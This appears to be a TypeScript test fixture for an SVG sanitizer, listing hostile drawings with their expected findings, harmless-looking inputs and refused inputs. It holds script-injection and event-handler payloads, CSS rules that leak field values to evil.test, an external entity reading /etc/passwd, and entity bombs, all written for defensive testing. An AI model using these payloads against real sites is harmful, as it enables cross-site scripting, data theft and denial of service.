// Drawings that try to run code, reach the network or draw without end; shared by the jsdom and the Chromium test.
import { svg } from './page-parts.ts'

/** Name → drawing → what has to be said about it. */
export const hostileDrawings: readonly (readonly [name: string, text: string, kind: string])[] = [
  ['a script', svg('<script>globalThis.hacked = 1</script>'), 'script'],
  [
    'a script in a namespace of its own',
    svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">globalThis.hacked = 1</x:script>'),
    'script',
  ],
  ['a script with an address', svg('<script href="http://evil.test/a.js"/>'), 'script'],
  ['onload on the root', svg('<rect/>', 'onload="globalThis.hacked = 1"'), 'eventHandler'],
  ['a handler in capitals', svg('<rect ONCLICK="globalThis.hacked = 1"/>'), 'eventHandler'],
  [
    'a javascript: address',
    svg('<image href="javascript:globalThis.hacked=1" width="9" height="9"/>'),
    'externalReference',
  ],
  ['a picture from elsewhere', svg('<image href="http://evil.test/a.png" width="9" height="9"/>'), 'externalReference'],
  ['a picture by xlink', svg('<image xlink:href="//evil.test/a.png" width="9" height="9"/>'), 'externalReference'],
  [
    'an SVG as data',
    svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
    'externalReference',
  ],
  ['use of a foreign file', svg('<use href="http://evil.test/a.svg#x"/>'), 'externalReference'],
  ['a paint from elsewhere', svg('<rect fill="url(http://evil.test/a.svg#p)"/>'), 'externalReference'],
  ['a paint from elsewhere in escapes', svg('<rect fill="\\75 rl(http://evil.test/a.svg#p)"/>'), 'externalReference'],
  ['a mask by image-set', svg('<rect mask="image-set(\'http://evil.test/a.png\' 1x)"/>'), 'externalReference'],
  ['a style that loads', svg('<rect style="fill:url(http://evil.test/a.svg#p)"/>'), 'externalReference'],
  [
    'an import',
    svg('<style>@import url("http://evil.test/a.css"); rect { fill: red }</style><rect/>'),
    'externalReference',
  ],
  [
    'a font',
    svg('<style>@font-face { font-family: x; src: url(http://evil.test/a.woff) }</style>'),
    'externalReference',
  ],
  ['a rule that loads', svg('<style>rect { fill: url(http://evil.test/a.svg#p) }</style><rect/>'), 'externalReference'],
  [
    'a rule that covers the page',
    svg('<style>rect { position: fixed; inset: 0; z-index: 9 }</style><rect/>'),
    'styleRule',
  ],
  [
    'a frame in foreignObject',
    svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/"/></foreignObject>'),
    'foreignContent',
  ],
  [
    'HTML between shapes',
    svg('<img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.test/a.png" onerror="globalThis.hacked = 1"/>'),
    'foreignContent',
  ],
  ['an animated address', svg('<image><set attributeName="href" to="http://evil.test/a.png"/></image>'), 'animation'],
  [
    'an animation',
    svg('<rect><animate attributeName="x" values="0;9" onbegin="globalThis.hacked = 1"/></rect>'),
    'animation',
  ],
  [
    'a filter with a foreign picture',
    svg('<filter id="f"><feImage href="http://evil.test/a.png"/></filter><rect filter="url(#f)"/>'),
    'filter',
  ],
  [
    'copies of copies',
    svg(
      `<defs><g id="c0"><rect/></g>${Array.from({ length: 9 }, (_, index) => `<g id="c${index + 1}">${`<use href="#c${index}"/>`.repeat(10)}</g>`).join('')}</defs><use href="#c9"/>`,
    ),
    'copies',
  ],
  [
    'a javascript: address in references',
    svg('<image href="&#106;&#x61;vascript:globalThis.hacked=1"/>'),
    'externalReference',
  ],
  [
    'a javascript: address with a tab in it',
    svg('<use href="java&#9;script:globalThis.hacked=1"/>'),
    'externalReference',
  ],
  [
    'HTML as data',
    svg('<image href="data:text/html,&lt;script&gt;globalThis.hacked=1&lt;/script&gt;"/>'),
    'externalReference',
  ],
  ['use of an SVG as data', svg('<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"/>'), 'externalReference'],
  [
    'xlink under another prefix',
    svg('<image xmlns:y="http://www.w3.org/1999/xlink" y:href="http://evil.test/a.png"/>'),
    'externalReference',
  ],
  [
    'a script under another prefix',
    svg('<s:script xmlns:s="http://www.w3.org/2000/svg">globalThis.hacked = 1</s:script>'),
    'script',
  ],
  [
    'a rule for screens that loads',
    svg('<style>@media all { rect { fill: url(http://evil.test/a) } }</style><rect/>'),
    'externalReference',
  ],
  [
    'rules that tell what fields hold',
    svg(
      '<style>input[value^="a"] { fill: url(http://evil.test/a) } [data-token] { stroke: url("//evil.test/b") }</style>',
    ),
    'externalReference',
  ],
  [
    'a rule in escapes',
    svg('<style>rect { fill: \\75\\72\\6c(http://evil.test/a) }</style><rect/>'),
    'externalReference',
  ],
  [
    'a cursor from elsewhere',
    svg('<rect style="cursor: url(http://evil.test/a.cur), auto" width="400" height="300"/>'),
    'externalReference',
  ],
  ['a background from elsewhere', svg('<rect style="background: url(//evil.test/a.png)"/>'), 'externalReference'],
  [
    'a mask picture from elsewhere',
    svg('<rect style="mask-image: url(http://evil.test/a.png)"/>'),
    'externalReference',
  ],
  [
    'a marker from elsewhere',
    svg('<path d="M0 0h9" marker-end="url(\'http://evil.test/a.svg#m\')"/>'),
    'externalReference',
  ],
  [
    'a clip from elsewhere',
    svg('<rect clip-path="url( &quot;http://evil.test/a.svg#c&quot; )"/>'),
    'externalReference',
  ],
  [
    'a gradient from elsewhere',
    svg('<linearGradient id="g" href="//evil.test/a.svg#g"/><rect fill="url(#g)"/>'),
    'externalReference',
  ],
  [
    'a text on a foreign path',
    svg('<text><textPath href="http://evil.test/a.svg#p">x</textPath></text>'),
    'externalReference',
  ],
  [
    'a font face from elsewhere',
    svg('<font-face><font-face-src><font-face-uri href="http://evil.test/a.svg#f"/></font-face-src></font-face>'),
    'externalReference',
  ],
  [
    'an animated script address in a link',
    svg('<a><animate attributeName="href" values="javascript:globalThis.hacked=1"/><text>x</text></a>'),
    'animation',
  ],
  ['a handler that is set', svg('<rect><set attributeName="onclick" to="globalThis.hacked=1"/></rect>'), 'animation'],
  ['a handler of an inner drawing', svg('<svg onload="globalThis.hacked = 1"/>'), 'eventHandler'],
  [
    'a handler of a focused element',
    svg('<g tabindex="0" autofocus="" onfocus="globalThis.hacked = 1"><rect/></g>'),
    'eventHandler',
  ],
  ['a handler of a broken picture', svg('<image href="#none" onerror="globalThis.hacked = 1"/>'), 'eventHandler'],
  [
    'a page that moves on',
    svg('<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=http://evil.test/"/>'),
    'foreignContent',
  ],
  [
    'a base for addresses',
    svg('<base xmlns="http://www.w3.org/1999/xhtml" href="http://evil.test/"/>'),
    'foreignContent',
  ],
  [
    'a style sheet by link',
    svg('<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="http://evil.test/a.css"/>'),
    'foreignContent',
  ],
  [
    'a frame with a page in it',
    svg('<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"/>'),
    'foreignContent',
  ],
  ['a handler element', svg('<handler type="application/ecmascript">globalThis.hacked = 1</handler>'), 'other'],
]

/** Name → drawing in which nothing is taken out that is worth a note, and nothing may happen either. */
export const quietDrawings: readonly (readonly [name: string, text: string])[] = [
  ['a link with a javascript: address', svg('<a href="javascript:globalThis.hacked=1"><text>x</text></a>')],
  [
    'xlink that means something else',
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://evil.test/ns"><image xlink:href="http://evil.test/a.png" width="9" height="9"/></svg>`,
  ],
  ['handlers in namespaces', svg('<rect xmlns:x="http://www.w3.org/2000/svg" x:onload="globalThis.hacked = 1"/>')],
  ['a base in XML', svg('<g xml:base="http://evil.test/"><rect id="x"/><use href="#x"/></g>')],
  [
    'a style sheet by instruction',
    `<?xml version="1.0"?><?xml-stylesheet href="http://evil.test/a.css" type="text/css"?>${svg('<rect/>')}`,
  ],
  [
    'a document type from elsewhere',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.test/svg11.dtd">${svg('<rect/>')}`,
  ],
  ['an import in escapes', svg('<style>@\\69mport url(http://evil.test/a.css); rect { fill: red }</style><rect/>')],
  [
    'HTML in texts',
    svg(
      '<title><![CDATA[<img src="http://evil.test/a" onerror="hacked=1">]]></title><desc>&lt;script&gt;hacked=1&lt;/script&gt;</desc><text>&lt;img src=x onerror=hacked=1&gt;</text>',
    ),
  ],
  [
    'HTML in a style',
    svg(
      '<style><![CDATA[</style><img src="http://evil.test/a" onerror="globalThis.hacked=1"><style>]]></style><rect/>',
    ),
  ],
  [
    'HTML in an attribute',
    svg(
      '<g id="&lt;/g&gt;&lt;img src=x onerror=hacked=1&gt;" class="&quot;&gt;&lt;script&gt;hacked=1&lt;/script&gt;"><rect/></g>',
    ),
  ],
  [
    'ids of the page',
    svg(
      '<g id="main"/><g id="app"/><g id="navigation"/><g id="location"/><g id="__proto__"/><g id="body"/><text id="querySelector">x</text>',
    ),
  ],
  [
    'rules that hide the marks',
    svg('<style>* { opacity: 0; visibility: hidden } .ls-marks, .ls-mark, .ls-alarms { display: none }</style><rect/>'),
  ],
  ['a path of half a million points', svg(`<path d="M0 0${'L9 9'.repeat(500_000)}"/>`)],
  ['two hundred levels', svg(`${'<g transform="rotate(1)">'.repeat(180)}<rect/>${'</g>'.repeat(180)}`)],
]

export const refusedDrawings: readonly (readonly [name: string, text: string, refusal: string])[] = [
  ['nothing', '  ', 'empty'],
  [
    'an entity bomb',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
    'entities',
  ],
  [
    'an external entity',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
    'entities',
  ],
  ['text that is no XML', '<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>', 'notXml'],
  ['an undeclared prefix', '<svg xmlns="http://www.w3.org/2000/svg"><rect ls:tag="A"/></svg>', 'notXml'],
  ['an HTML page', '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', 'notSvg'],
  ['sixty thousand elements', svg('<rect/>'.repeat(60_000)), 'tooManyElements'],
  [
    'a million attributes',
    svg(`<rect ${Array.from({ length: 1_000_000 }, (_, at) => `a${at}=""`).join(' ')}/>`),
    'tooLong',
  ],
  [
    'two thousand attributes',
    svg(`<rect ${Array.from({ length: 2000 }, (_, at) => `a${at}=""`).join(' ')}/>`),
    'tooManyAttributes',
  ],
  ['an undeclared xlink', '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="#a"/></svg>', 'notXml'],
  ['an entity bomb in lower case', `<!DOCTYPE svg [<!entity a "aaaa">]>${svg('<text>&a;</text>')}`, 'entities'],
  [
    'a parameter entity',
    `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.test/a.dtd"> %x;]>${svg('<rect/>')}`,
    'entities',
  ],
  ['a thousand levels', svg(`${'<g>'.repeat(1000)}${'</g>'.repeat(1000)}`), 'tooDeep'],
  ['nine million characters', svg(`<!--${'x'.repeat(9_000_000)}-->`), 'tooLong'],
]
